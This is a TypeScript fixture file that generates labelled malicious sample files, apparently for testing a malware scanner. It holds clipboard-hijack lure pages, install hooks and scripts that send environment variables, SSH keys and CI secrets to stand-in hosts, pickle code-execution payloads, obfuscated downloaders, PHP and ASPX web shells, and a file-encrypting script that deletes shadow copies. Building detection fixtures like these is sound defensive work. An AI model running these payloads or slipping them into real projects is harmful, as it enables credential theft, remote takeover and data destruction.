// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of shells and workflows
// Harmless files in the ways that the field saw from 2023 on: pages that hand out commands, packages and notebooks that rob
// their users, models that run code, words that only a loop puts together.
import { writeZip } from '../write-zip.ts'
import { b64, type Suspect, text } from './suspect.ts'

const json = JSON.stringify
const codes = (body: string, change: (code: number) => number): string =>
  [...body].map((char) => change(char.charCodeAt(0))).join(',')
const hidden = 'powershell -w hidden -c "iex(irm https://files.test/a)"'
const between = (body: string, sign: string): string => [...body].join(sign)

const pages: readonly Suspect[] = [
  text(
    'verify.html',
    'malicious',
    ['html_copies_command'],
    `<html><title>Just a moment...</title><body><h1>Verify you are human</h1><button id="v">I am not a robot</button><p>Press <b>Windows Key + R</b>, then <b>CTRL + V</b> and Enter</p><script>document.getElementById('v').onclick=function(){navigator.clipboard.writeText('${hidden} # Ray ID 81')}</script></body></html>`,
  ),
  text(
    'shared-file.html',
    'malicious',
    ['html_copies_command'],
    `<html><body><p>To access the shared file, open File Explorer, press CTRL+L and paste the path.</p><button onclick="c()">Copy</button><script>function c(){var t=document.createElement('textarea');t.value=atob('${b64('mshta https://files.test/a.hta                 # C:\\policy\\HR.docx')}');document.body.appendChild(t);t.select();document.execCommand('copy')}</script></body></html>`,
  ),
  text(
    'microphone.html',
    'malicious',
    ['html_copies_command', 'script_conceals_itself'],
    `<html><body><h2>There was a problem with your microphone</h2><p>To fix it press Windows + X, choose Terminal, paste and press Enter.</p><script>var b='${codes(hidden, (code) => code ^ 17)}'.split(',');navigator.clipboard.writeText(b.map(function(x){return String.fromCharCode(x^17)}).join(''))</script></body></html>`,
  ),
  text(
    'mac-verify.html',
    'malicious',
    ['html_copies_command'],
    `<html><body><h2>Complete these verification steps</h2><p>Open Terminal via Spotlight, paste the code and press Return.</p><script>const c="echo '${b64('curl -s https://files.test/m|bash')}' | base64 -d | bash";document.body.addEventListener('click',()=>{navigator.clipboard.writeText(c)});</script></body></html>`,
  ),
  text(
    'proposal.svg',
    'suspicious',
    ['svg_runs_script', 'html_hides_where_it_leads'],
    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[const k="5f2c",h="${[...`window.location.href='https://sign.test/x'`].map((char, at) => (char.charCodeAt(0) ^ '5f2c'.charCodeAt(at % 4)).toString(16).padStart(2, '0')).join('')}";let o='';for(let i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^k.charCodeAt((i/2)%4));(()=>{}).constructor(o)();]]></script></svg>`,
  ),
  text(
    'shifted.xhtml',
    'suspicious',
    ['html_hides_where_it_leads'],
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[let z=[${codes('https://documents.test/#', (code) => code + 3)}];location.href=z.map(c=>String.fromCharCode(c-3)).join('');]]></script></head><body/></html>`,
  ),
  text(
    'window-in-window.html',
    'suspicious',
    ['html_blocks_inspection'],
    '<html><body><iframe src="https://sign.test/o"></iframe><script>document.onkeydown=e=>{if(e.keyCode==123)return false};setInterval(()=>{debugger},100)</script></body></html>',
  ),
  text(
    'diagnostic.html',
    'suspicious',
    ['html_calls_protocol_handler'],
    '<html><script>location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=? IT_BrowseForFile=$(calc)\\"";</script></html>',
  ),
]

const packages: readonly Suspect[] = [
  text(
    'package.json',
    'suspicious',
    ['package_runs_fetched_code', 'script_sends_secrets_away'],
    json({
      name: 'reqeusts',
      scripts: { preinstall: 'curl -s https://files.test/$(whoami) -d "$(env | base64)" > /dev/null' },
    }),
  ),
  text(
    'decoded/package.json',
    'suspicious',
    ['package_runs_fetched_code'],
    json({
      scripts: {
        postinstall: `node -e "require('child_process').exec(Buffer.from('${b64('curl https://files.test/x|sh')}','base64').toString())"`,
      },
    }),
  ),
  text(
    'tasks.json',
    'suspicious',
    ['package_runs_fetched_code'],
    json({
      version: '2.0.0',
      tasks: [
        {
          label: 'env',
          linux: { command: 'wget -qO- https://files.test/l | sh' },
          windows: { command: 'curl https://files.test/w | cmd' },
          runOptions: { runOn: 'folderOpen' },
        },
      ],
    }),
  ),
  text(
    'setup.py',
    'suspicious',
    ['package_runs_fetched_code'],
    'from setuptools import setup\nfrom setuptools.command.install import install\nimport os, json, socket, getpass, urllib.request as u\nclass P(install):\n  def run(self):\n    install.run(self)\n    d={"h":socket.gethostname(),"u":getpass.getuser(),"e":dict(os.environ)}\n    u.urlopen(u.Request("https://files.test/p",data=json.dumps(d).encode()))\nsetup(name="x",cmdclass={"install":P})\n',
  ),
  text(
    'keys.js',
    'suspicious',
    ['script_sends_secrets_away', 'script_steals_secrets'],
    "const fs=require('fs'),os=require('os'),path=require('path'),https=require('https');\nconst g=['.npmrc','.ssh/id_rsa','.aws/credentials'].map(f=>{try{return fs.readFileSync(path.join(os.homedir(),f),'utf8')}catch(e){return ''}});\nconst b=JSON.stringify({h:os.hostname(),u:os.userInfo().username,env:process.env,g});\nconst r=https.request({hostname:'files.test',path:'/c',method:'POST'});r.write(b);r.end();\n",
  ),
  text(
    'addresses.js',
    'suspicious',
    ['script_steals_secrets'],
    "const f=window.fetch;window.fetch=async(...a)=>{const r=await f(...a);let t=await r.clone().text();t=t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g,'0x0');return new Response(t)};const q=window.ethereum.request;window.ethereum.request=async p=>{if(p.method==='eth_sendTransaction')p.params[0].to='0x0';return q(p)};",
  ),
  text(
    'secrets.yml',
    'suspicious',
    ['script_steals_secrets', 'script_sends_secrets_away'],
    'name: b\non: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | base64 -w0 | curl -s -X POST -d @- https://webhook.site/a\n',
  ),
  text(
    'train.ipynb',
    'suspicious',
    ['script_pipes_download_to_shell'],
    json({
      cells: [
        { cell_type: 'code', source: ['import os\n', '!curl -s http://203.0.113.7/b.sh | bash > /dev/null 2>&1\n'] },
      ],
      metadata: {},
      nbformat: 4,
    }),
  ),
  text('model.pkl', 'malicious', ['pickle_runs_code'], "cposix\nsystem\n(S'true'\ntR."),
  {
    name: 'weights.npy',
    label: 'malicious',
    reasons: ['pickle_runs_code'],
    bytes: Buffer.from(
      "\x93NUMPY\x01\x005\0{'descr': '|O', 'fortran_order': False, 'shape': ()}\n" +
        '\x80\x02csubprocess\nPopen\nX\x04\x00\x00\x00true\x85R.',
      'latin1',
    ),
  },
  {
    name: 'model.pt',
    label: 'malicious',
    reasons: ['pickle_runs_code'],
    bytes: writeZip({
      'archive/data.pkl': Buffer.from(
        '\x80\x02csubprocess\nPopen\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03.',
        'latin1',
      ),
      'archive/version': '3\n',
    }),
  },
  text(
    'pushed.py',
    'suspicious',
    ['script_conceals_itself'],
    `import sys\n\ndef main():\n    return 0${' '.repeat(400)};import os;os.system("curl https://files.test/i -o /tmp/i")\n`,
  ),
  text(
    'lambda.py',
    'suspicious',
    ['script_runs_decoded_code'],
    `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${'eJx'.repeat(40)}'))`,
  ),
]

const system: readonly Suspect[] = [
  text(
    'helper.service',
    'suspicious',
    ['package_runs_fetched_code'],
    '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/bash -c "curl -fsSL http://203.0.113.7/x|bash"\n',
  ),
  text(
    'crontab.txt',
    'suspicious',
    ['script_pipes_download_to_shell'],
    'SHELL=/bin/bash\n*/3 * * * * root curl -s http://203.0.113.7/b.sh|bash >/dev/null 2>&1\n',
  ),
  text(
    'Dockerfile',
    'suspicious',
    ['script_mines_coins'],
    'FROM alpine:3\nRUN apk add curl\nENTRYPOINT ["/usr/bin/kd","-o","stratum+tcp://pool.test:4444","--donate-level","1"]\n',
  ),
  text(
    'com.updater.plist',
    'suspicious',
    ['script_runs_decoded_code'],
    '<?xml version="1.0"?><plist version="1.0"><dict><key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string><string>curl -s https://files.test/m | base64 -D | bash</string></array><key>RunAtLoad</key><true/></dict></plist>',
  ),
  text(
    'icon.scf',
    'suspicious',
    ['pointer_leads_to_share'],
    '[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.40\\share\\a.ico\r\n',
  ),
  text(
    'dark.theme',
    'suspicious',
    ['pointer_leads_to_share'],
    '[Theme]\r\nDisplayName=Dark\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.40\\img\\w.jpg\r\n',
  ),
  text('cells.csv', 'suspicious', ['pointer_runs_program'], 'Name,Phone\n"=cmd|\' /C calc\'!A1",1\n'),
  text(
    'box.wsb',
    'suspicious',
    ['pointer_runs_program'],
    `<Configuration><LogonCommand><Command>powershell -w hidden -c iex(irm https://files.test/b)</Command></LogonCommand></Configuration>`,
  ),
  text(
    'profile.ps1xml',
    'suspicious',
    ['script_runs_downloaded_text'],
    "<Types><Type><Members><ScriptProperty><GetScriptBlock>IEX (New-Object Net.WebClient).DownloadString('http://files.test/t')</GetScriptBlock></ScriptProperty></Members></Type></Types>",
  ),
  text(
    'saved.search-ms',
    'suspicious',
    ['search_file_leads_outside'],
    '<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\\\203.0.113.40@8080\\DavWWWRoot\\docs"/></scope></query></persistedQuery>',
  ),
  {
    name: 'marked.bat',
    label: 'suspicious',
    reasons: ['script_conceals_itself'],
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`\r\ncls\r\n@echo off\r\n${hidden}\r\n`)]),
  },
]

const disguised: readonly Suspect[] = [
  text(
    'strides.vbs',
    'malicious',
    ['script_conceals_itself', 'script_loads_assembly_from_memory'],
    `Set v = CreateObject("Shell.Application")\nf = "${between('$d=(New-Object Net.WebClient).DownloadData("http://files.test/i");[Reflection.Assembly]::Load($d)'.replaceAll('"', "'"), 'qZ')}"\nv.ShellExecute "powershell", s(f), "", "", 0\n`,
  ),
  text(
    'codes.vbs',
    'suspicious',
    ['script_conceals_itself'],
    `a="${codes('CreateObject("WScript.Shell").Run "powershell -c iex(irm https://files.test/v)",0', (code) => code + 41).replaceAll(',', '*')}"\nFor Each x In Split(a,"*")\nb=b&Chr(x-41)\nNext\nExecute b\n`,
  ),
  text(
    'signs.js',
    'suspicious',
    ['script_conceals_itself'],
    `function a(b){return b.split("#").join("")}\nGetObject(a("win#mgm#ts:ro#ot\\\\cim#v2:Wi#n32_Pro#cess")).Create(a("po#wers#hell -no#p -w hid#den -c i#ex(i#rm http://files.test/x)"),null,null,0);`,
  ),
  text(
    'pieces.js',
    'suspicious',
    ['script_conceals_itself'],
    `${('var s=WScript.CreateObject("WScript.Shell");var h=WScript.CreateObject("MSXML2.XMLHTTP");h.open("GET","https://files.test/",false);'.match(/.{1,9}/g) ?? []).map((piece, at) => `p${at} = ${JSON.stringify([...piece].reverse().join(''))};`).join('\n')}\nfunction rev(q){var o="";for(var i=q.length-1;i>=0;i--)o+=q.charAt(i);return o}\nthis["con"+"structor"]["con"+"structor"](rev(p0)+rev(p1))();`,
  ),
  text(
    'reversed.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    `$r='${[...'IEX(irm http://files.test/r)'].reverse().join('')}'; .($PSHome[21]+$PSHome[34]+'x') (-join $r[-1..-($r.Length)])`,
  ),
  text('callback.php', 'malicious', ['script_is_web_shell'], `<?php array_map("ass"."ert",array($_REQUEST['q'])); ?>`),
  text(
    'by-name.php',
    'malicious',
    ['script_is_web_shell'],
    `<?php $f="as"."s"."ert"; $k=strrev("TSOP_"); @$f(\${$k}['x']); ?>`,
  ),
  text(
    'process.aspx',
    'malicious',
    ['script_is_web_shell'],
    '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ if(Request["c"]!=null){ var p=new System.Diagnostics.Process(); p.StartInfo.FileName="cmd.exe"; p.StartInfo.Arguments="/c "+Request["c"]; p.Start(); } }</script>',
  ),
  text(
    'locked.ps1',
    'suspicious',
    ['script_encrypts_files', 'script_destroys_recovery'],
    "vssadmin delete shadows /all /quiet\n$a=[Security.Cryptography.Aes]::Create()\nGet-ChildItem $env:USERPROFILE -Recurse -Include *.docx | % { $e=$a.CreateEncryptor().TransformFinalBlock($b,0,1); [IO.File]::WriteAllBytes($_.FullName+'.x',$e); Remove-Item $_.FullName }\nSet-Content note.txt 'All your files have been encrypted. Send bitcoin to recover them.'",
  ),
]

export const field: readonly Suspect[] = [...pages, ...packages, ...system, ...disguised]
